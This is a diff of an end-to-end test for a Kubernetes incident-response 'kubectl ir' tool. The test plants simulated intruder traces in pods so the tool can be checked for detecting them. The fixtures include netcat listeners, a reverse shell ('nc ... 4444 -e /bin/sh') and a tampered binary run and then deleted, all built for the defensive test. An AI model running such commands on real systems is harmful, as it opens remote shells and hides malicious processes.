@@ -5,7 +5,18 @@ import { expect } from 'chai';
 import { image, imageOf } from '../support/offer.ts';
 import { requires } from '../support/requires.ts';
 import { ours } from './support/traces.ts';
-import { apply, createNamespace, pod, removeNamespaces, untilReady } from './support/workload.ts';
+import {
+  apply,
+  connectedTo,
+  createNamespace,
+  listensOn,
+  pod,
+  type PodParts,
+  readyWhen,
+  removeNamespaces,
+  until,
+  untilReady,
+} from './support/workload.ts';
 import { kubectl, kubectlIr, nodeNames } from './support/world.ts';
 
 const namespace = 'e2e-scope';
@@ -15,6 +26,8 @@ const unreachable = 'e2e-scope-unreachable';
 /** A program of the intruder: nothing in the image has its content. */
 const make = 'cp /bin/busybox /tmp/busybox-x; echo intruder >> /tmp/busybox-x;';
 const still = 'while :; do sleep 3600; done';
+/** A shell line that succeeds where a process runs from a file. */
+const runsFrom = (path: string): string => `ls -l /proc/[0-9]*/exe 2>/dev/null | grep -q ' -> ${path}$'`;
 
 interface Scope {
   readonly items: readonly {
@@ -46,7 +59,8 @@ describe('kubectl ir scope', function () {
       image: imageOf('toolbox'),
       command: ['sh', '-c', command],
     });
-    await apply(namespace, [pod('listener', { ...run('nc -ll -p 4444 -e sleep 3600'), node: second })]);
+    const listening = { ...run('nc -ll -p 4444 -e sleep 3600'), container: readyWhen(listensOn(4444)) };
+    await apply(namespace, [pod('listener', { ...listening, node: second })]);
     await untilReady(namespace);
     const listener = await kubectl([
       'get',
@@ -58,18 +72,31 @@ describe('kubectl ir scope', function () {
       'jsonpath={.status.podIP}',
     ]);
     // The suspect: a program whose file is gone, another that lies there, and a shell that is open to the listener.
-    const suspect = `${make} cp /tmp/busybox-x /tmp/busybox-left; chmod +x /tmp/busybox-left; /tmp/busybox-x sleep 3600 & sleep 0.5; rm /tmp/busybox-x; nc ${listener} 4444 -e /bin/sh & ${still}`;
-    const traces: Readonly<Record<string, string>> = {
-      'pod-02': `sleep 3600 | nc ${listener} 4444 & ${still}`,
-      'pod-05': `${make} mkdir -p /opt; mv /tmp/busybox-x /opt/busybox-y; /opt/busybox-y sleep 3600 & ${still}`,
-      'pod-12': `${make} mkdir -p /var/tmp; mv /tmp/busybox-x /var/tmp/notes; chmod -x /var/tmp/notes; ${still}`,
+    const suspect = `${make} cp /tmp/busybox-x /tmp/busybox-left; chmod +x /tmp/busybox-left; /tmp/busybox-x sleep 3600 & ${until(runsFrom('/tmp/busybox-x'))}; rm /tmp/busybox-x; nc ${listener} 4444 -e /bin/sh & ${still}`;
+    /** What each does, and when that is done. */
+    const traces: Readonly<Record<string, readonly [command: string, done: string]>> = {
+      'pod-02': [`sleep 3600 | nc ${listener} 4444 & ${still}`, connectedTo(4444)],
+      'pod-05': [
+        `${make} mkdir -p /opt; mv /tmp/busybox-x /opt/busybox-y; /opt/busybox-y sleep 3600 & ${still}`,
+        runsFrom('/opt/busybox-y'),
+      ],
+      'pod-12': [
+        `${make} chmod -x /tmp/busybox-x; mkdir -p /var/tmp; mv /tmp/busybox-x /var/tmp/notes; ${still}`,
+        '[ -e /var/tmp/notes ]',
+      ],
+    };
+    const traced = (name: string): PodParts => {
+      const [command, done] = traces[name] ?? [still];
+      return { ...run(command), ...(done === undefined ? {} : { container: readyWhen(done) }) };
     };
     const names = Array.from({ length: 12 }, (_, index) => `pod-${String(index + 1).padStart(2, '0')}`);
     await apply(namespace, [
-      pod('suspect', { ...run(suspect), node: first }),
-      ...names.map((name, index) =>
-        pod(name, { ...run(traces[name] ?? still), node: index % 2 === 0 ? first : second }),
-      ),
+      pod('suspect', {
+        ...run(suspect),
+        node: first,
+        container: readyWhen(`[ ! -e /tmp/busybox-x ] && ${connectedTo(4444)}`),
+      }),
+      ...names.map((name, index) => pod(name, { ...traced(name), node: index % 2 === 0 ? first : second })),
     ]);
     await untilReady(namespace);
     await kubectl(
@@ -120,7 +147,8 @@ describe('kubectl ir scope', function () {
     expect(scope.notLooked[0]?.what).to.equal(`node/${unreachable}`);
     expect(scope.notLooked[0]?.reason).to.contain('NotReady');
     expect(code, stderr).to.equal(3);
-    expect(await ours()).to.deep.equal(earlier);
+    // What other tests left ends meanwhile, and is swept.
+    expect((await ours()).filter((name) => !earlier.includes(name))).to.deep.equal([]);
     const verified = await kubectlIr(['verify', found]);
     expect(verified.stdout).to.match(/^UNSEALED/);
   });
